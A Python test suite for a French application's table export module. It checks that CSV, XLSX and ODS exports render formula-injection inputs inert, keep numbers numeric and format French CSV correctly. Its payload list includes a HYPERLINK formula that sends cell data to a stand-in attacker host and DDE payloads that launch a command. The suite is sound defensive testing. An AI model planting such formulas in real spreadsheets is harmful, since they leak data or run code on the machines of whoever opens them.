"""Formula injection (CSV injection): every text cell of every export is inert."""

from decimal import Decimal

import pytest

from cvv.core.exports import render_table
from tests.spreadsheets import FORMULA, read_cells

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"clic")',
    "=1+1",
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
    "-5",  # a negative amount given as text is text
]
FORMATS = ["csv", "csv-excel", "xlsx", "ods"]
COLUMNS = [("text", "Texte"), ("amount", "Montant"), ("count", "Nombre")]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_starting_with_a_formula_trigger_is_inert(fmt, payload):
    content = render_table(COLUMNS, [{"text": payload, "amount": Decimal("12.50")}], fmt)
    header, row = read_cells(content, fmt)
    value, kind = row[0]
    assert kind != FORMULA
    assert kind == "s"
    assert str(value).startswith("'"), (fmt, value)
    # Nothing else is lost: the original text follows the quote.
    if fmt == "ods":  # odfpy writes tab and line breaks as elements
        assert str(value)[1:].strip() == payload.strip()
    else:  # XML (XLSX) reads a lone CR as LF
        assert value.replace("\r", "\n") == "'" + payload.replace("\r", "\n")


@pytest.mark.parametrize("fmt", FORMATS)
def test_numbers_stay_numbers_and_plain_text_is_untouched(fmt):
    rows = [
        {"text": "Aulnay-sous-Bois", "amount": Decimal("-5"), "count": -3},
        {"text": "Épinay 2 = 1 + 1", "amount": Decimal("1250.75"), "count": 0},
        {"text": "", "amount": None, "count": None},
    ]
    content = render_table(COLUMNS, rows, fmt)
    header, first, second, third = read_cells(content, fmt)
    assert [value for value, _ in header] == ["Texte", "Montant", "Nombre"]
    assert first[0][0] == "Aulnay-sous-Bois" and second[0][0] == "Épinay 2 = 1 + 1"
    if fmt == "csv":
        assert [value for value, _ in first] == ["Aulnay-sous-Bois", "-5", "-3"]
        assert [value for value, _ in second][1:] == ["1250.75", "0"]
    elif fmt == "csv-excel":  # decimal comma; a negative number stays a number, unquoted
        assert [value for value, _ in first] == ["Aulnay-sous-Bois", "-5", "-3"]
        assert [value for value, _ in second][1:] == ["1250,75", "0"]
    else:
        assert first[1][1] == first[2][1] == "n"
        assert float(first[1][0]) == -5 and float(first[2][0]) == -3
        assert float(second[1][0]) == 1250.75
    assert all(kind != FORMULA for row in (header, first, second, third) for _, kind in row)


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_control_characters_do_not_break_spreadsheets(fmt):
    content = render_table(COLUMNS, [{"text": "Boulangerie\x01\x08 du\x0b marché"}], fmt)
    _, row = read_cells(content, fmt)
    assert row[0][0] == "Boulangerie du marché"


def test_neutralise_touches_text_only():
    from cvv.core.exports import neutralise

    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("@x") == "'@x"
    assert neutralise(" +1") == "' +1"
    assert neutralise("a=1") == "a=1"
    assert neutralise("") == ""
    assert neutralise(None) is None
    assert neutralise(-5) == -5
    assert neutralise(Decimal("-5.00")) == Decimal("-5.00")


@pytest.mark.parametrize("fmt", ["csv", "ods"])
def test_booleans_read_oui_and_non_in_csv_as_in_ods(fmt):
    columns = [("text", "Commune"), ("paid", "Payé")]
    rows = [{"text": "Aulnay-sous-Bois", "paid": True}, {"text": "Montreuil", "paid": False}]
    _, first, second = read_cells(render_table(columns, rows, fmt), fmt)
    assert (first[1][0], second[1][0]) == ("oui", "non")


def test_excel_csv_is_bom_semicolons_decimal_comma_and_french_dates():
    import datetime

    columns = [("text", "Texte"), ("amount", "Montant"), ("day", "Le"), ("ok", "Payé")]
    row = {"text": "a;b", "amount": Decimal("8250.00"), "day": datetime.date(2026, 3, 5)}
    content = render_table(columns, [row | {"ok": False}], "csv-excel")
    assert content == '\ufeffTexte;Montant;Le;Payé\r\n"a;b";8250,00;05/03/2026;non\r\n'.encode()
